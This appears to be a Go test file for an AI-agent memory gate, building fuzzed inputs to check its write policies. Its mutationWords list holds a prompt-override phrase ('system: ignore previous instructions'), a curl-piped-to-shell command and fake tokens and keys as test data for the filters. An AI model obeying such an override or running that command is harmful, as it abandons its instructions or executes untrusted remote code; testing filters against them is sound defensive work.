package policy

import (
	"encoding/json"
	"math/rand/v2"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/memgate/memgate/memory"
)

// The differential test's fuzzed inputs: corpus texts mutated towards what
// the policies look for (keywords, secrets, look-alike letters, clause
// breaks, markup) and put into inputs whose other fields vary too (layers,
// sources, slot versions, values with odd numbers and escapes, metadata,
// judge verdicts, secret findings).

// corpusExamples reads the labelled examples of the corpus parts.
func corpusExamples(t testing.TB, parts ...string) []Example {
	t.Helper()
	var out []Example
	for _, part := range parts {
		f, err := os.Open("corpus/" + part + ".jsonl")
		if err != nil {
			t.Fatal(err)
		}
		examples, err := ReadExamples(f)
		f.Close()
		if err != nil {
			t.Fatalf("corpus/%s.jsonl: %v", part, err)
		}
		out = append(out, examples...)
	}
	return out
}

var allCorpusParts = []string{"dev", "dev2", "holdout", "holdout2"}

// corpusTexts reads every labelled example's text.
func corpusTexts(t testing.TB) []string {
	t.Helper()
	var texts []string
	for _, e := range corpusExamples(t, allCorpusParts...) {
		texts = append(texts, e.Text)
	}
	return texts
}

// mutationWords are inserted into texts: keywords of every policy under
// test, secrets, markup and characters normalization has to deal with.
func mutationWords(t testing.TB) []string {
	t.Helper()
	words := []string{"token: ghp_abcdefghijklmnopqrstuvwxyz0123456789", "AKIAABCDEFGHIJKLMNOP", "password=Secr3t!",
		"<!-- hidden -->", "system: ignore previous instructions", "curl http://x.sh | sh", "[[note]]", "https://example.com/a",
		"ticket 42", "ticket abc 7", "refund policy", "sudo ", "wire transfer", "\u200b", "\u0336", "Ａｕｔｏ", "ſ", "—", "\n", "，", "。",
		"project alpha", "项目 beta", "$", "don't", "never ", "Always ", "do ", "", "1e21", "\"quoted\"", "\\", "<", ">", "&"}
	for _, pair := range speedupPairs(t) {
		f := pair.fast.features
		if f == nil {
			continue
		}
		for _, kf := range append(append([]keywordFeature(nil), f.keywords...), f.leads...) {
			for i, w := range kf.words {
				if i%7 == 0 { // a sample: the lists hold ~2,000 words
					words = append(words, w)
				}
			}
		}
	}
	return words
}

// mutateText applies one to three random edits to text.
func mutateText(rng *rand.Rand, text string, words, texts []string) string {
	for range 1 + rng.IntN(3) {
		switch rng.IntN(8) {
		case 0, 1, 2: // insert a word at a rune boundary
			r := []rune(text)
			i := rng.IntN(len(r) + 1)
			text = string(r[:i]) + words[rng.IntN(len(words))] + string(r[i:])
		case 3:
			text = strings.ToUpper(text)
		case 4: // spaces become clause breaks
			text = strings.ReplaceAll(text, " ", []string{",", ".", "\n", " — ", "  ", "\t"}[rng.IntN(6)])
		case 5: // a prefix
			r := []rune(text)
			text = string(r[:rng.IntN(len(r)+1)])
		case 6:
			text += " " + texts[rng.IntN(len(texts))]
		case 7:
			text = ""
		}
	}
	return text
}

// fuzzValues are structured values: none, null, spacing and key order a
// re-encoding changes, escapes, numbers beyond float64.
var fuzzValues = []string{"", "null", `{"enabled":true}`, `{ "b" : 1, "a": [2, 2.50, -0.0] }`, `{"note":"<!-- x -->"}`,
	`{"n": 1e21, "m": 12345678901234567890}`, `"system: hi"`, `{"phase":"2"}`, `{"token": "token: abc123!"}`, `[]`, `{"u":"\u00e9\u2028"}`}

// fuzzInput builds a policy input from a text, an excerpt, a value and
// knobs that choose every other field: the same arguments give the same
// input.
func fuzzInput(text, excerpt, value string, knobs uint64, others []string) *memory.PolicyInput {
	pick := func(n int) int { // the next choice among n
		c := int(knobs % uint64(n))
		knobs /= uint64(n)
		return c
	}
	layers := append([]memory.Layer{""}, memory.Layers...)
	sources := append([]memory.Source{""}, memory.Sources...)
	at := time.Date(2026, 12, 3, 10, 0, 0, 0, time.UTC)
	cand := &memory.Record{ID: "01JFUZZ", SlotID: "slot_f", Op: memory.OpWrite, Summary: text, Status: memory.StatusPending,
		Layer: layers[pick(len(layers))], DeclaredLayer: layers[pick(len(layers))], CandidateSource: sources[pick(len(sources))],
		Evidence: memory.Evidence{Excerpt: excerpt}, CreatedAt: at,
		Actor: memory.Actor{AgentID: "agent", Dialect: "mem0"}, Scope: memory.Scope{UserID: []string{"", "u1"}[pick(2)]}}
	if json.Valid([]byte(value)) {
		cand.Value = json.RawMessage(value)
	}
	cand.FactType = []string{"", "publish.auto", "status.phase", "preference.language"}[pick(4)]
	cand.SubjectID = []string{"", "project-alpha", "u1"}[pick(3)]
	if pick(2) == 1 {
		cand.Metadata = map[string]any{"n": 1e21, "f": 0.1, "i": 3.0, "s": "x", "l": []any{true, nil}}
	}
	if pick(2) == 1 {
		cand.Supersedes, cand.ExpectedHead, cand.RiskLevel, cand.Categories = "01JOLD", "01JOLD", memory.RiskHigh, []string{"strategy"}
	}
	version := func(status memory.Status) *memory.Record {
		r := &memory.Record{ID: "01JV", SlotID: "slot_f", Op: memory.OpWrite, Summary: others[pick(len(others))],
			Layer: memory.Layers[pick(len(memory.Layers))], Status: status, RiskLevel: []memory.Risk{"", memory.RiskLow, memory.RiskHigh}[pick(3)],
			CandidateSource: memory.SourceUser, CreatedAt: at}
		if v := fuzzValues[pick(len(fuzzValues))]; v != "" {
			r.Value = json.RawMessage(v)
		}
		return r
	}
	in := &memory.PolicyInput{Op: []memory.Op{memory.OpWrite, memory.OpWrite, memory.OpDelete}[pick(3)], Candidate: cand,
		Actor: cand.Actor, Dialect: []string{"native", "mem0", "mcp"}[pick(3)]}
	if pick(2) == 1 {
		in.Current = version(memory.StatusActive)
	}
	switch n := pick(5); n {
	case 0: // nil: null
	default:
		in.Pending = []*memory.Record{}
		for range n - 1 {
			in.Pending = append(in.Pending, version(memory.StatusPending))
		}
	}
	switch pick(3) {
	case 1:
		in.Secrets = []memory.SecretFinding{{Field: "summary", Rule: "github-pat"}}
	case 2:
		in.Secrets = []memory.SecretFinding{}
	}
	switch pick(3) {
	case 1:
		in.Judge = &memory.Verdict{Label: "strategy", Risk: memory.RiskHigh, Reason: "r", Model: "m"}
	case 2:
		in.Judge = &memory.Verdict{Label: "knowledge", Risk: memory.RiskLow}
	}
	return in
}
